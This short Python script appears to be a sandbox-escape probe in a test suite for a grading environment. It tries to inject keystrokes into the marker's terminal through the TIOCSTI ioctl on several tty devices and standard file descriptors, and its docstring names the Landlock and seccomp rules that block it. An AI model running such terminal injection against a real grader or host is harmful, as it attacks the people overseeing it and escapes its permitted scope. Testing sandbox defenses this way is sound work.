"""Types into the terminal of whoever marks.

stopped by: Landlock: terminals may not be opened; seccomp: ioctl(TIOCSTI)
prize: typed into
"""
# %%
import fcntl, glob, os

for path in ("/dev/tty", "/dev/console", "/dev/ptmx", *glob.glob("/dev/pts/*"), "/dev/tty1"):
    try:
        descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY)
        fcntl.ioctl(descriptor, 0x5412, b"\n")
        print("typed", "into", path)
    except OSError as error:
        print(error)
for descriptor in range(3):
    try:
        fcntl.ioctl(descriptor, 0x5412, b"\n")
        print("typed", "into", descriptor)
    except OSError as error:
        print(error)
